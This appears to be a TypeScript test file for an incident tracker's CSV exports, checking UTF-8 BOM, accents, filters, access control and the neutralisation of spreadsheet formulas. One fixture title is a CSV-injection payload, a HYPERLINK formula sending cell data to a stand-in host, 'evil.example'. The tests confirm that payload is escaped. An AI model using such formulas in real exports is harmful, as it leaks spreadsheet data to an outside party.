import { parse } from 'csv-parse/sync';
import type request from 'supertest';
import { startApp, type TestApp } from './helpers/app.js';
import { addComment, createIncident, createParty } from './helpers/fixtures.js';
import { signedIn } from './web/web-helpers.js';

/** Reads a CSV answer with a real parser (csv-parse): its rows by header. */
function rowsOf(text: string): Array<Record<string, string>> {
  return parse(text, { bom: true, columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
}

/** The body as the bytes sent, decoded as UTF-8 without dropping a BOM (superagent's text keeps it too, but bytes say it plainly). */
const bytes = (response: request.Response): Buffer => response.body as Buffer;
const binary = (test: request.Test) =>
  test.buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (chunk: Buffer) => chunks.push(chunk));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });

describe('CSV exports', () => {
  let t: TestApp;
  let incident: { id: string; ref: string };
  const body = 'Je suis déçu, «\u202fvraiment\u202f» déçu\u202f!\nDeuxième ligne; avec "guillemets".';

  beforeAll(async () => {
    t = await startApp();
    const founder = await createParty(t, { name: 'Zoé Fondatrice' });
    incident = await createIncident(t, { title: '=HYPERLINK("http://evil.example/?x="&A1)', severity: 'critical', counterpartId: founder.id, tags: ['café'] });
    await createIncident(t, { title: 'A quiet one', severity: 'low' });
  });
  afterAll(() => t.close());

  it('exports an incident’s thread: BOM first, accents, guillemets and line breaks round-trip, replies name their parent', async () => {
    const inbound = await addComment(t, incident.id, { direction: 'inbound', authorName: 'Zoé', body, postedAt: '2026-11-03T09:00:00Z' });
    const reply = await addComment(t, incident.id, { direction: 'outbound', body: '@Zoé merci, nous corrigeons.', parentId: inbound.id, postedAt: '2026-11-03T10:00:00Z' });

    const response = await binary(t.api().get(`/api/incidents/${incident.id}/comments.csv`)).expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${incident.ref}-thread.csv`);
    expect([...bytes(response).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = rowsOf(bytes(response).toString('utf8'));
    expect(rows.map((row) => [row['id'], row['direction'], row['author'], row['parentId'], row['postedAt'], row['body']])).toEqual([
      [inbound.id, 'inbound', 'Zoé', '', '2026-11-03T09:00:00.000Z', body],
      // A body starting with @ would be a formula to a spreadsheet: it comes with a leading '.
      [reply.id, 'outbound', expect.any(String), inbound.id, '2026-11-03T10:00:00.000Z', "'@Zoé merci, nous corrigeons."],
    ]);
  });

  it('exports the incidents of the list with its filters, a formula-looking title neutralised', async () => {
    const response = await binary(t.api().get('/api/incidents.csv?severity=critical')).expect(200);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''incidents-\d{4}-\d{2}-\d{2}\.csv$/);
    const rows = rowsOf(bytes(response).toString('utf8'));
    expect(rows).toEqual([expect.objectContaining({ ref: incident.ref, severity: 'critical', counterpart: 'Zoé Fondatrice', tags: 'café', title: `'=HYPERLINK("http://evil.example/?x="&A1)` })]);
    expect((await binary(t.api().get('/api/incidents.csv')).expect(200)).body.toString('utf8')).toContain('A quiet one');

    const refused = await t.api().get('/api/incidents.csv?severity=dire').expect(400);
    expect(refused.body.message).toEqual([expect.stringContaining('severity must be one of the following values')]);
    await t.anonymous().get('/api/incidents.csv').expect(401);
  });

  it('exports the legal notices with the list’s filters', async () => {
    const legal = await t.createUser('legal', 'Élise Juriste');
    const notice = (
      await t.api(legal.token).post(`/api/incidents/${incident.id}/legal-notices`).send({ type: 'formal_notice', receivedVia: 'email', receivedAt: '2026-11-02T10:00:00+01:00', jurisdiction: 'FR', summary: '-1 point for «\u202fdéfense\u202f»' }).expect(201)
    ).body;
    const response = await binary(t.api().get('/api/legal-notices.csv?status=open')).expect(200);
    const rows = rowsOf(bytes(response).toString('utf8'));
    expect(rows).toEqual([expect.objectContaining({ ref: notice.ref, incidentRef: incident.ref, type: 'formal_notice', respondBy: notice.respondBy, assignee: 'Élise Juriste', summary: "'-1 point for «\u202fdéfense\u202f»" })]);
    expect(rowsOf((await binary(t.api().get('/api/legal-notices.csv?status=closed')).expect(200)).body.toString('utf8'))).toEqual([]);
    await t.api().get('/api/incidents/00000000-0000-4000-8000-000000000000/comments.csv').expect(404);
  });

  it('links the downloads from the desk, which serves them with the session', async () => {
    const { agent } = await signedIn(t, 'legal');
    // Several states at once, as the list's filter allows: the notice recorded above took the incident to a legal state.
    const filters = 'state=reported&state=legal_threat&state=formal_dispute&severity=critical&tag=caf%C3%A9';
    const list = await agent.get(`/incidents?${filters}`).expect(200);
    expect(list.text).toContain(`href="/incidents.csv?${filters.replace(/&/g, '&amp;')}"`);
    const file = await binary(agent.get(`/incidents.csv?${filters}`)).expect(200);
    expect(rowsOf(bytes(file).toString('utf8')).map((row) => row['ref'])).toEqual([incident.ref]);

    expect((await agent.get('/legal').expect(200)).text).toContain('href="/legal-notices.csv?status=open"');
    expect(rowsOf((await binary(agent.get('/legal-notices.csv?status=open')).expect(200)).body.toString('utf8'))).toHaveLength(1);

    expect((await agent.get(`/incidents/${incident.id}`).expect(200)).text).toContain(`href="/incidents/${incident.id}/comments.csv"`);
    const thread = await binary(agent.get(`/incidents/${incident.id}/comments.csv`)).expect(200);
    expect(rowsOf(bytes(thread).toString('utf8')).map((row) => row['body'])).toContain(body);
    await t.anonymous().get('/incidents.csv').expect(303);
  });
});
